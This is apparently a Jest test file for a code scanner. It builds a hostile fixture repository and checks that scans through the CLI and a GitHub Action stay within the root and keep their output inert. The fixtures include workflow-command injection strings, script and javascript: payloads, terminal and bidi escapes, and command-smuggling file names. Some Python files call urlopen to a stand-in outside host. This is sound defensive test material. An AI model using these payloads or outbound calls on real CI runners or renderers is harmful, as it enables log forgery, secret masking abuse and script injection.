// A hostile repository end to end (SPEC 3, 11): symlinks out of the root and in loops, huge,
// binary, undecodable and pathologically nested files, file names with line breaks, workflow
// commands, Markdown/HTML and ANSI escapes. Scanned through the CLI entry (src/cli/main.ts) and
// through the action (src/action/run.ts against the recording GitHub stand-in): the scan
// completes, reads nothing outside the root, lists what it skipped, and every output keeps the
// repository's text inert.
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, symlinkSync } from 'node:fs';
import path from 'node:path';

import type { Report } from '../../src/model/report.js';
import { startFakeGitHub } from '../action/harness/fake-github-server.js';
import type { FakeGitHub } from '../action/harness/fake-github-server.js';
import { run } from '../cli/run-cli.js';
import { inProcess, runAction } from '../action/harness/run-action.js';
import { tempDir, writeTree } from '../discover/tree.js';
import {
  forgedCommandProblems,
  hiddenCharacterProblems,
  markdownProblems,
} from '../render/hostile-output.js';

/** Text aimed at the runner's command parser, Markdown renderers and terminals. */
const HOSTILE_TEXT =
  '::set-output name=decision::PASS %0A::add-mask::secret\r\n::stop-commands::x <script>alert(1)</script> | a | b ` `` [x](javascript:alert(1)) \u001b[2J\u001b[31mred\u202eevil\u200b';

/** A name per hostile trait; each file calls eval, so each must show up as a DEX001 finding. */
const HOSTILE_NAMES = [
  'name\nwith newline.py',
  '::error::x.py',
  '::set-output name=x::y.py',
  'ansi\u001b[31mred\u001b[0m.py',
  'md<script>alert(1)<|x|>`tick`[l](javascript:x).py',
  'bidi\u202egnp.py',
  'pct%0A::add-mask::z.py',
  'dir\n::warning::w/inner.py',
];

const OUTSIDE_DESTINATION = 'exfil.outside.example.com';

interface Layout {
  base: string;
  root: string;
}

function hostileTree(): Layout {
  const base = tempDir();
  const root = path.join(base, 'repo');
  writeTree(base, {
    // Would be a NET001 blocker if the scan ever read it.
    'outside/secret.py': `import urllib.request\nurllib.request.urlopen("https://${OUTSIDE_DESTINATION}/x")\n`,
    'outside/more/deep.py': `import urllib.request\nurllib.request.urlopen("https://${OUTSIDE_DESTINATION}/y")\n`,
  });
  const files: Record<string, string | Uint8Array> = {
    'evidence.py': `x = ${JSON.stringify(HOSTILE_TEXT)}\neval(x)  # ${HOSTILE_TEXT.replace(/[\r\n]/g, ' ')}\n`,
    'nested.py': `x = ${'['.repeat(5000)}${']'.repeat(5000)}\n${'eval('.repeat(2000)}1${')'.repeat(2000)}\n`,
    // 1500 levels, one space more each (1.1 MB): deeper than the analyser goes (SCAN001).
    'deep_indent.py': `${Array.from({ length: 1500 }, (_, i) => `${' '.repeat(i)}if x:`).join('\n')}\n${' '.repeat(1500)}eval(1)\n`,
    'long_line.py': `y = ${'"a" + '.repeat(50_000)}"a"\neval(y)\n`,
    'huge.py': `# ${'x'.repeat(2 * 1024 * 1024)}\neval(1)\n`,
    'binary.py': Buffer.from([0x65, 0x76, 0x61, 0x6c, 0, 1, 2, 3, 0xff, 0xfe, 0]),
    'bad_cookie.py': '# -*- coding: utf-9 -*-\neval(1)\n',
    'bad_utf16.ps1': Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x41]),
    'run.sh': `#!/bin/sh\necho ${JSON.stringify(HOSTILE_TEXT.replace(/[\r\n]/g, ' '))}\neval "$1"\n`,
    'nb.ipynb': JSON.stringify({
      cells: [
        { cell_type: 'code', metadata: {}, source: [`s = ${JSON.stringify(HOSTILE_TEXT)}\n`, 'eval(s)\n'] },
      ],
      metadata: {},
      nbformat: 4,
      nbformat_minor: 5,
    }),
  };
  for (const name of HOSTILE_NAMES) files[name] = `eval(${JSON.stringify(HOSTILE_TEXT)})\n`;
  writeTree(root, files);
  symlinkSync('../outside/secret.py', path.join(root, 'link_out.py'));
  symlinkSync('../outside', path.join(root, 'outside_dir'));
  symlinkSync(path.join(base, 'outside', 'secret.py'), path.join(root, 'absolute_out.py'));
  symlinkSync('.', path.join(root, 'loop'));
  symlinkSync('..', path.join(root, 'up'));
  symlinkSync('loop_b.py', path.join(root, 'loop_a.py'));
  symlinkSync('loop_a.py', path.join(root, 'loop_b.py'));
  execFileSync('mkfifo', [path.join(root, 'pipe.py')]);
  mkdirSync(path.join(root, 'sub'));
  symlinkSync('../../outside/more', path.join(root, 'sub', 'escape'));
  return { base, root };
}

/** Paths (as reported) that must be skipped with a reason matching the pattern. */
const EXPECTED_SKIPS: [string, RegExp][] = [
  ['absolute_out.py', /symlink leaves the target root/],
  ['bad_cookie.py', /unknown codec "utf-9"/],
  ['bad_utf16.ps1', /not valid utf-16/],
  ['binary.py', /binary content/],
  ['huge.py', /larger than 2 MB/],
  ['link_out.py', /symlink leaves the target root/],
  ['loop_a.py', /symlink loop/],
  ['loop_b.py', /symlink loop/],
  ['outside_dir', /symlink leaves the target root/],
  ['pipe.py', /not a regular file \(fifo\)/],
  ['sub/escape', /symlink leaves the target root/],
  ['up', /symlink leaves the target root/],
];

function checkReportFiles(outDir: string): void {
  const report = JSON.parse(readFileSync(path.join(outDir, 'report.json'), 'utf8')) as Report;
  const md = readFileSync(path.join(outDir, 'report.md'), 'utf8');
  const sarifText = readFileSync(path.join(outDir, 'report.sarif'), 'utf8');
  const manifestText = readFileSync(path.join(outDir, 'manifest.json'), 'utf8');

  // Nothing outside the root was read: no finding from it, no scanned path leading to it.
  const everything = JSON.stringify(report) + md + sarifText + manifestText;
  expect(everything).not.toContain(OUTSIDE_DESTINATION);
  for (const file of report.inventory.scanned_files)
    expect(file.path).not.toMatch(/^(outside|up|loop)\b|\.\./);
  expect(report.findings.filter((f) => f.rule_id === 'NET001')).toEqual([]);

  // Every skip is listed with its reason, and is an incomplete-audit finding.
  const skipped = new Map(report.inventory.skipped_files.map((s) => [s.path, s.reason]));
  for (const [file, reason] of EXPECTED_SKIPS) {
    expect([file, skipped.get(file)]).toEqual([file, expect.stringMatching(reason)]);
  }
  expect(report.summary.audit_complete).toBe(false);
  expect(report.summary.decision).toBe('FAIL');
  const scan001 = new Set(report.findings.filter((f) => f.rule_id === 'SCAN001').map((f) => f.file));
  for (const [file] of EXPECTED_SKIPS) expect(scan001).toContain(file);
  expect(scan001).toContain('deep_indent.py');

  // Every hostile file was analysed under its real name, and its eval found.
  const dex = new Set(report.findings.filter((f) => f.rule_id === 'DEX001').map((f) => f.file));
  for (const name of [...HOSTILE_NAMES, 'evidence.py', 'nested.py', 'long_line.py', 'nb.ipynb']) {
    expect([name, dex.has(name)]).toEqual([name, true]);
  }
  expect(report.inventory.scanned_files.map((f) => f.path)).toContain('run.sh');
  expect(md).toContain('Skipped files');

  expect(markdownProblems(md, 'report.md')).toEqual([]);
  const sarif = JSON.parse(sarifText) as {
    runs: {
      results: { message: { text: string } }[];
      invocations?: { toolExecutionNotifications?: { message: { text: string } }[] }[];
    }[];
  };
  const messages = [
    ...sarif.runs[0]!.results.map((r) => r.message.text),
    ...(sarif.runs[0]!.invocations ?? []).flatMap((i) =>
      (i.toolExecutionNotifications ?? []).map((n) => n.message.text),
    ),
  ];
  expect(messages.length).toBeGreaterThan(HOSTILE_NAMES.length);
  expect(messages.flatMap((m, i) => hiddenCharacterProblems(m, `SARIF message ${i}`))).toEqual([]);
  expect(messages.filter((m) => /[\r\n]/.test(m))).toEqual([]);
}

let layout: Layout;
beforeAll(() => {
  layout = hostileTree();
});

test('CLI: completes with FAIL, reads nothing outside the root, lists every skip, output inert', async () => {
  const outDir = path.join(layout.base, 'cli-out');
  const result = await run(['scan', layout.root, '--output-dir', outDir]);
  // (jest's own experimental-modules warning is not ours)
  expect(result.stderr.split('\n').filter((l) => l && !/^\(node:\d+\)|^\(Use `node/.test(l))).toEqual([]);
  expect(result.code).toBe(1);
  expect(result.stdout.split('\n').filter(Boolean)).toHaveLength(1);
  expect(hiddenCharacterProblems(result.stdout, 'stdout')).toEqual([]);
  checkReportFiles(outDir);
});

test('CLI: a bad glob naming hostile text is one escaped stderr line and exit 3', async () => {
  const result = await run([
    'scan',
    layout.root,
    '--output-dir',
    path.join(layout.base, 'x'),
    '--exclude',
    '{a,b}'.repeat(18) + '\u001b[31m\n::add-mask::x',
  ]);
  expect(result.code).toBe(3);
  expect(result.stderr.split('\n').filter(Boolean)).toHaveLength(1);
  expect(hiddenCharacterProblems(result.stderr, 'stderr')).toEqual([]);
  expect(forgedCommandProblems(result.stderr, 'stderr')).toEqual([]);
});

describe('action', () => {
  let api: FakeGitHub | undefined;
  afterEach(async () => {
    await api?.close();
    api = undefined;
  });

  const pushEvent = { name: 'push', payload: {} };

  test('check run: annotations and summary carry no raw control text; the packet is the CLI one', async () => {
    api = await startFakeGitHub();
    const result = await runAction(inProcess({}), {
      workspace: layout.root,
      inputs: {
        token: 'ghs_test',
        annotations: 'all',
        'upload-artifact': 'false',
        'output-dir': '../action-out',
      },
      event: pushEvent,
      apiUrl: api.url,
    });
    expect(result.exitCode).toBe(1);
    expect(result.outputs.decision).toBe('FAIL');
    checkReportFiles(path.join(layout.base, 'action-out'));

    expect(forgedCommandProblems(result.stdout, 'stdout')).toEqual([]);
    expect(hiddenCharacterProblems(result.stdout, 'stdout')).toEqual([]);
    expect(markdownProblems(result.summary, 'job summary')).toEqual([]);
    expect(result.summary).toContain('Skipped files');

    const bodies = api.requests
      .filter((r) => r.path.includes('check-runs'))
      .map(
        (r) =>
          r.body as {
            output: {
              title: string;
              summary: string;
              annotations?: { path: string; title: string; message: string }[];
            };
          },
      );
    const annotations = bodies.flatMap((b) => b.output.annotations ?? []);
    expect(annotations.length).toBeGreaterThan(HOSTILE_NAMES.length);
    // Paths are data for the API (JSON), so they stay exact; titles and messages are shown as text.
    for (const name of HOSTILE_NAMES) expect(annotations.map((a) => a.path)).toContain(name);
    const shown = annotations.flatMap((a) => [a.title, a.message]);
    expect(shown.flatMap((t, i) => hiddenCharacterProblems(t, `annotation text ${i}`))).toEqual([]);
    for (const body of bodies) expect(markdownProblems(body.output.summary, 'check-run summary')).toEqual([]);
  });

  test('no check run (403): workflow-command annotations are escaped; no forged command, no raw control character', async () => {
    api = await startFakeGitHub({ faults: [{ method: 'POST', path: /check-runs$/, status: 403 }] });
    const result = await runAction(inProcess({}), {
      workspace: layout.root,
      inputs: {
        token: 'ghs_test',
        annotations: 'all',
        'upload-artifact': 'false',
        'output-dir': '../action-out-2',
      },
      event: pushEvent,
      apiUrl: api.url,
    });
    expect(result.exitCode).toBe(1);
    const commands = result.stdout
      .split('\n')
      .filter(
        (l) =>
          l.startsWith('::error file=') || l.startsWith('::notice file=') || l.startsWith('::warning file='),
      );
    expect(commands.length).toBeGreaterThan(HOSTILE_NAMES.length);
    expect(forgedCommandProblems(result.stdout, 'stdout')).toEqual([]);
    expect(hiddenCharacterProblems(result.stdout, 'stdout')).toEqual([]);
    // Each hostile name arrives as one property, escaped the runner's way.
    expect(commands).toContainEqual(expect.stringMatching(/^::error file=name%0Awith newline\.py,/));
    expect(commands).toContainEqual(expect.stringMatching(/^::error file=%3A%3Aerror%3A%3Ax\.py,/));
    expect(markdownProblems(result.summary, 'job summary')).toEqual([]);
  });

  test('a committed allowlist holding hostile text: exit 3, one inert error line, nothing published', async () => {
    api = await startFakeGitHub();
    writeTree(layout.base, {
      'bad-allow.json': JSON.stringify({
        entries: [{ command_regex: '(a+)+$', justification: HOSTILE_TEXT }],
      }),
      [`bad\n::add-mask::x\u001b[31m.json`]: `{"entries": [{"command_exact": ${JSON.stringify(HOSTILE_TEXT)}}]}`,
    });
    for (const file of ['bad-allow.json', 'bad\n::add-mask::x\u001b[31m.json']) {
      const result = await runAction(inProcess({}), {
        workspace: layout.root,
        inputs: { token: 'ghs_test', allowlist: `../${file}`, 'output-dir': '../action-out-3' },
        event: pushEvent,
        apiUrl: api.url,
      });
      expect(result.exitCode).toBe(3);
      expect(forgedCommandProblems(result.stdout, 'stdout')).toEqual([]);
      expect(hiddenCharacterProblems(result.stdout, 'stdout')).toEqual([]);
      expect(result.stdout.split('\n').filter((l) => l.startsWith('::error::'))).toHaveLength(1);
    }
    expect(api.requests).toEqual([]);
  });
});
